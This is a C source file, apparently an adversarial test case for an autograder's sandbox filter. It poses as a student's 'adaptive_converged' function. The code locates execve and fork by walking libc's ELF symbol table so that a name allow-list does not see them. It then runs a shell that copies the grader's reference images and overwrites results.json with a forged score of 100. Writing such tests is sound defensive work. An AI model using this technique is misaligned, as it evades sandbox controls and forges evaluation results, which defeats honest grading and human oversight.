/* Adversary (issue 17): finds libc's execve and fork without naming them. From &printf it walks
 * back page by page to libc's ELF header, reads its dynamic symbol table and looks the functions
 * up by their strings, then execs a shell that forges results and copies the references. No banned
 * name reaches the object, no syscall instruction either: the allow-list sees only printf. The
 * filter, in force from the first instruction, refuses the exec and the fork whatever found them.
 * part: 5
 * base: stub
 * replaces: parts/part5_adaptive/adaptive.c
 * expect: unit=0 images=0
 * other: none
 * absent-files: /tmp/pathlab-elfwalk
 */
#include "part5.h"
#include "../../framework/todo.h"
#include <elf.h>
#include <stdint.h>
#include <stdio.h>

static int same(const char *a, const char *b)
{
    while (*a && *a == *b) a++, b++;
    return *a == *b;
}

/* The start of the mapped ELF image that holds `inside`: the first page, going down, that begins
 * with the ELF magic (libc's segments are mapped back to back). */
static const unsigned char *image_of(const void *inside)
{
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
    for (int pages = 0; pages < 4096; pages++, p -= 4096) {
        const unsigned char *b = (const unsigned char *)p;
        if (b[0] == 0x7f && b[1] == 'E' && b[2] == 'L' && b[3] == 'F') return b;
    }
    return NULL;
}

/* A function of that image by name, through its dynamic section's symbol and string tables. */
static void *lookup(const unsigned char *base, const char *name)
{
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = NULL;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *sym = NULL;
    const char *str = NULL;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < (uintptr_t)base ? (uintptr_t)base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB) str = (const char *)at;
    }
    if (!sym || !str || (const char *)sym > str) return NULL;
    for (const Elf64_Sym *s = sym; (const char *)(s + 1) <= str; s++)
        if (s->st_value && ELF64_ST_TYPE(s->st_info) == STT_FUNC && same(str + s->st_name, name))
            return (void *)(base + s->st_value);
    return NULL;
}

bool adaptive_converged(int n, double s1, double s2, float tol)
{
    static int tried;
    const unsigned char *libc = tried++ ? NULL : image_of((const void *)&printf);
    if (libc) {
        static char *argv[] = {"sh", "-c", "touch /tmp/pathlab-elfwalk; "
                               "cp -r /autograder/source/reference_images /tmp/pathlab-elfwalk 2>/dev/null; "
                               "echo '{\"score\": 100, \"forged\": 1}' > /autograder/results/results.json", 0};
        int (*run)(const char *, char *const[], char *const[]) = (int (*)(const char *, char *const[], char *const[]))
            lookup(libc, "execve");
        int (*split)(void) = (int (*)(void))lookup(libc, "fork");
        if (run) run("/bin/sh", argv, argv + 3);
        if (split && split() == 0 && run) run("/bin/sh", argv, argv + 3);
    }
    return PL_TODO_FALSE("5.1", "adaptive_converged");
}
